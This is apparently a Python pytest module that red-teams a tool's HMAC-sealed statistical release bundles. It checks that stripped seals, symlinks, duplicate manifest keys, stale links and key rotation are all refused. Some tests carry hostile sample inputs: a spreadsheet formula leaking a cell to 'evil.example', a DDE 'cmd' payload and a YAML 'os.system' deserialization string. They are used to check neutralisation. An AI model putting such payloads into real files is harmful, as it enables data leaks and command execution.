"""Red team, round 3: the keyed seal on releases and links, attacked by someone without the key.

The seal (HMAC under the linkage key) only protects what it covers. These attacks step around
it instead of forging it: strip the key fingerprint and the seal so the bundle looks like one
that never had a key (the mobile operator's), put a symlink in the bundle, or write a key twice
in the manifest. The steward, who holds the key, must refuse each in one line naming bundle and
file. One small demo's releases and link (eurodac, kmar) are made once for the module.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from routekit.contracts import LinkBundle, ReleaseBundle
from routekit.errors import RoutekitError
from routekit.link import link_releases
from routekit.release import release_extract

KEY = b"redteam-round3-key-0123456789abcdef"
K = 10
SOURCES = ("eurodac", "kmar")


# one worker runs this module, so its module-scoped fixture is built once, not once per worker
pytestmark = pytest.mark.xdist_group("redteam_round3")


@pytest.fixture(scope="module")
def made(small_demo_data, tmp_path_factory) -> Path:
    """Sealed releases of eurodac and kmar and their sealed link, under ``KEY``."""
    root = tmp_path_factory.mktemp("round3")
    for source in SOURCES:
        shutil.copy2(small_demo_data / "partners" / f"{source}.csv", root / f"{source}.csv")
        release_extract(source, root / f"{source}.csv", root / "releases" / source, threshold=K, key=KEY,
                        rejects=root / f"{source}.rejects.csv")
    link_releases([root / "releases" / s for s in SOURCES], root / "link", threshold=K, key=KEY)
    return root


@pytest.fixture()
def copy(made, tmp_path) -> Path:
    """A fresh copy of the module's releases and link to attack."""
    shutil.copytree(made / "releases", tmp_path / "releases", symlinks=True)
    shutil.copytree(made / "link", tmp_path / "link", symlinks=True)
    return tmp_path


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _inflate(table: Path) -> None:
    """Multiply the first published count above 0 by ten."""
    frame = pd.read_csv(table, dtype=str, keep_default_na=False)
    row = frame.index[(frame["status"] == "published") & (pd.to_numeric(frame["count"], errors="coerce") > 0)][0]
    frame.loc[row, "count"] = str(int(frame.loc[row, "count"]) * 10)
    frame.to_csv(table, index=False, lineterminator="\n")


def _one_line(error: pytest.ExceptionInfo) -> str:
    line = str(error.value)
    assert "\n" not in line and "Traceback" not in line
    return line


def test_a_link_stripped_of_its_fingerprint_and_seal_is_refused(copy):
    """Edit the contingency table, write its sha256, set key_fingerprint to null and drop the
    seal: the link looks like one made without a key, and the keyed check was skipped."""
    link = copy / "link"
    _inflate(link / "contingency.csv")
    manifest = json.loads((link / "manifest.json").read_text(encoding="utf-8"))
    manifest.update(files={"contingency.csv": _sha(link / "contingency.csv")}, key_fingerprint=None)
    manifest.pop("seal")
    (link / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    with pytest.raises(RoutekitError) as error:
        LinkBundle(link).verify(K, KEY)
    line = _one_line(error)
    assert str(link) in line and "manifest.json" in line


def test_a_release_stripped_of_tokens_fingerprint_and_seal_is_refused(copy):
    """Delete the token file, edit a table, rewrite the digests, null the fingerprint and drop the
    seal: the release looks like the mobile operator's (no key) and its tables were published."""
    release = copy / "releases" / "kmar"
    (release / "steward" / "tokens.csv").unlink()
    _inflate(release / "tables" / "totals.csv")
    manifest = json.loads((release / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"] = {name: _sha(release / name) for name in manifest["files"] if (release / name).is_file()}
    manifest["key_fingerprint"] = None
    manifest.pop("seal")
    (release / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    with pytest.raises(RoutekitError) as error:
        ReleaseBundle(release).verify(K, KEY)
    line = _one_line(error)
    assert str(release) in line and "manifest.json" in line


def test_a_stripped_previous_edition_is_not_copied_into_a_new_release(made, copy, tmp_path):
    """``release --previous`` copies kept months from the previous edition: one stripped of its
    seal and edited must be refused, not sealed anew under the partner's key."""
    previous = copy / "releases" / "kmar"
    (previous / "steward" / "tokens.csv").unlink()
    manifest = json.loads((previous / "manifest.json").read_text(encoding="utf-8"))
    manifest["files"] = {name: _sha(previous / name) for name in manifest["files"] if (previous / name).is_file()}
    manifest["key_fingerprint"] = None
    manifest.pop("seal")
    (previous / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    with pytest.raises(RoutekitError) as error:
        release_extract("kmar", made / "kmar.csv", tmp_path / "new", threshold=K, key=KEY,
                        rejects=tmp_path / "kmar.rejects.csv", previous=previous)
    assert str(previous) in _one_line(error)


def test_a_table_symlinked_outside_the_bundle_is_refused(copy, tmp_path):
    """Same bytes today, but the target outside the bundle can change after it was verified."""
    release = copy / "releases" / "kmar"
    outside = tmp_path / "elsewhere.csv"
    shutil.copy2(release / "tables" / "totals.csv", outside)
    (release / "tables" / "totals.csv").unlink()
    (release / "tables" / "totals.csv").symlink_to(outside)
    with pytest.raises(RoutekitError) as error:
        ReleaseBundle(release).verify(K, KEY)
    line = _one_line(error)
    assert str(release) in line and "tables/totals.csv" in line


def test_a_symlinked_folder_of_added_files_is_refused(copy, tmp_path):
    """A folder symlinked into the bundle is not walked, so the files in it were not 'added'."""
    release = copy / "releases" / "kmar"
    (tmp_path / "extra").mkdir()
    (tmp_path / "extra" / "planted.csv").write_text("month,count\n2025-01,3\n", encoding="utf-8")
    (release / "tables" / "extra").symlink_to(tmp_path / "extra")
    with pytest.raises(RoutekitError) as error:
        ReleaseBundle(release).verify(K, KEY)
    assert "tables/extra" in _one_line(error)


def test_a_symlinked_contingency_table_is_refused(copy, tmp_path):
    link = copy / "link"
    outside = tmp_path / "contingency.csv"
    shutil.copy2(link / "contingency.csv", outside)
    (link / "contingency.csv").unlink()
    (link / "contingency.csv").symlink_to(outside)
    with pytest.raises(RoutekitError) as error:
        LinkBundle(link).verify(K, KEY)
    assert "contingency.csv" in _one_line(error)


def test_a_manifest_naming_a_field_twice_is_refused(copy):
    """JSON with a key twice reads as its last value: a reader (or jq, or a person) who sees
    the first ``"threshold": 5`` and routekit, which checks the sealed 10, disagree."""
    release = copy / "releases" / "kmar"
    text = (release / "manifest.json").read_text(encoding="utf-8")
    (release / "manifest.json").write_text(text.replace("{\n", '{\n  "threshold": 5,\n', 1), encoding="utf-8")
    with pytest.raises(RoutekitError) as error:
        ReleaseBundle(release).verify(K, KEY)
    line = _one_line(error)
    assert "manifest.json" in line and "threshold" in line


def test_untouched_bundles_still_verify(made):
    for source in SOURCES:
        ReleaseBundle(made / "releases" / source).verify(K, KEY)
    LinkBundle(made / "link").verify(K, KEY)


def test_a_reindented_manifest_with_reordered_keys_still_verifies(copy):
    release = copy / "releases" / "kmar"
    manifest = json.loads((release / "manifest.json").read_text(encoding="utf-8"))
    reordered = dict(reversed(list(manifest.items())))
    (release / "manifest.json").write_text(json.dumps(reordered, indent=7), encoding="utf-8")
    ReleaseBundle(release).verify(K, KEY)


# --- the site's CSV downloads --------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Open de bijlage")'


def test_a_formula_title_is_not_a_formula_in_the_published_parameters_csv(tmp_path):
    """The methods chapter publishes the parameters (the title among them) as a CSV next to its
    table; a policymaker opens it in a spreadsheet, where a title starting with '=' (or '@', '+',
    '-') runs as a formula. The rejects files are neutralised; the site's downloads were not."""
    from routekit.report.tables import write_table

    frame = pd.DataFrame({"parameter": ["title", "dde", "focus.corridors", "change"],
                          "value": [FORMULA_TITLE, "-1+cmd|' /C calc'!A0", "-", "+12%"]})
    path = write_table(frame, "parameters", tmp_path, K)
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)
    value = dict(zip(cells["parameter"], cells["value"]))
    assert not value["title"].startswith("=") and value["title"].endswith(FORMULA_TITLE)
    assert not value["dde"].startswith("-")
    assert value["focus.corridors"] == "-" and value["change"] == "+12%"  # plain text and numbers stay


# --- the report's runner without the key ---------------------------------------------------------

def _strip_link(link: Path) -> None:
    _inflate(link / "contingency.csv")
    manifest = json.loads((link / "manifest.json").read_text(encoding="utf-8"))
    manifest.update(files={"contingency.csv": _sha(link / "contingency.csv")}, key_fingerprint=None)
    manifest.pop("seal")
    (link / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")


def test_a_keyless_workspace_refuses_a_link_stripped_of_its_fingerprint(made, tmp_path, monkeypatch):
    """A steward's workspace that received the releases (no partners/, no key at hand) checks
    digests and fingerprints: the link it reuses must carry its releases' fingerprint."""
    from routekit.pipeline.workspace import KEY_ENV, prepare_workspace

    steward = tmp_path / "data" / "steward" / f"k{K}"
    shutil.copytree(made / "releases", steward / "releases")
    monkeypatch.setenv(KEY_ENV, KEY.decode())
    prepare_workspace(tmp_path / "data", list(SOURCES), K, None, log=lambda *_: None)  # links, stamps
    monkeypatch.delenv(KEY_ENV)
    _strip_link(steward / "link")
    with pytest.raises(RoutekitError) as error:
        prepare_workspace(tmp_path / "data", list(SOURCES), K, None, log=lambda *_: None)
    line = _one_line(error)
    assert str(steward / "link") in line and "manifest.json" in line


# --- parameters on the command line --------------------------------------------------------------

@pytest.mark.parametrize("title", ["{{ 7*7 }}", "{% raw %}", "Routes: Q3: overzicht", "*alias", "%TAG x",
                                   "`code`", "!!python/object/apply:os.system ['id']", "@analist"])
def test_a_hostile_title_override_is_text_not_a_traceback(title):
    """``-p title=...`` is parsed as YAML (so '-p threshold=15' is a number); a title YAML cannot
    read ('{{ 7*7 }}', 'a: b: c', '*alias') was a traceback. It is the text as typed."""
    from routekit.params import apply_overrides, validate

    params = validate(apply_overrides({"data_dir": "data/demo"}, [f"title={title}"]))
    assert params.title == title


# --- previous editions ---------------------------------------------------------------------------

def test_a_key_rotation_does_not_let_two_editions_be_differenced(made, tmp_path, monkeypatch):
    """The partner (or the steward's demo workspace) rotates the linkage key between two editions.
    The earlier edition is still published; the next one must not reveal revisions below K."""
    import numpy as np

    from routekit.pipeline.workspace import KEY_ENV, prepare_workspace
    from routekit.release.audit import audit_editions

    data = tmp_path / "data"
    (data / "partners").mkdir(parents=True)
    kmar = pd.read_csv(made / "kmar.csv", dtype=str, keep_default_na=False)
    late = np.random.default_rng(3).random(len(kmar)) < 0.04
    kmar[(kmar["date"] < "2025-04") & ~late].to_csv(data / "partners" / "kmar.csv", index=False)
    monkeypatch.setenv(KEY_ENV, KEY.decode())
    first = prepare_workspace(data, ["kmar"], K, None, log=lambda *_: None)
    published = tmp_path / "published-kmar"
    shutil.copytree(first.releases / "kmar", published)
    kmar[kmar["date"] < "2025-07"].to_csv(data / "partners" / "kmar.csv", index=False)  # with late records
    monkeypatch.setenv(KEY_ENV, "a-rotated-linkage-key-0123456789abcdef")
    from routekit.errors import RoutekitError
    with pytest.raises(RoutekitError, match="another linkage key"):   # was: released in full, 207 exposures
        prepare_workspace(data, ["kmar"], K, None, log=lambda *_: None)
    assert audit_editions(published, first.releases / "kmar") == []   # the published edition stays in place


def test_a_link_of_other_releases_put_in_place_is_refused(made, tmp_path, monkeypatch):
    """An older link, sealed under the same key (last quarter's, from a backup), copied over the
    workspace's link while its cache stamp stays: the seal holds, but it is not of these releases."""
    from routekit.pipeline.workspace import KEY_ENV, prepare_workspace

    steward = tmp_path / "data" / "steward" / f"k{K}"
    shutil.copytree(made / "releases", steward / "releases")
    monkeypatch.setenv(KEY_ENV, KEY.decode())
    prepare_workspace(tmp_path / "data", list(SOURCES), K, None, log=lambda *_: None)
    kmar = pd.read_csv(made / "kmar.csv", dtype=str, keep_default_na=False)
    kmar[kmar["date"] < "2025-01"].to_csv(tmp_path / "kmar-old.csv", index=False)
    release_extract("kmar", tmp_path / "kmar-old.csv", tmp_path / "old" / "kmar", threshold=K, key=KEY,
                    rejects=tmp_path / "kmar-old.rejects.csv")
    link_releases([made / "releases" / "eurodac", tmp_path / "old" / "kmar"], tmp_path / "old-link", threshold=K,
                  key=KEY)
    for name in ("contingency.csv", "manifest.json"):
        shutil.copy2(tmp_path / "old-link" / name, steward / "link" / name)
    with pytest.raises(RoutekitError) as error:
        prepare_workspace(tmp_path / "data", list(SOURCES), K, None, log=lambda *_: None)
    line = _one_line(error)
    assert str(steward / "link") in line and "kmar" in line


def test_a_release_in_another_source_s_folder_is_refused(made, tmp_path):
    """A tired steward copies KMar's release into releases/ind: the report asked for IND and
    would have used KMar's figures under the name the manifest gives."""
    from routekit.pipeline.workspace import Workspace

    workspace = Workspace(tmp_path / "data", K)
    shutil.copytree(made / "releases" / "eurodac", workspace.releases / "eurodac")
    shutil.copytree(made / "releases" / "kmar", workspace.releases / "ind")
    with pytest.raises(RoutekitError) as error:
        workspace.bundles(["eurodac", "ind"])
    line = _one_line(error)
    assert str(workspace.releases / "ind") in line and "kmar" in line
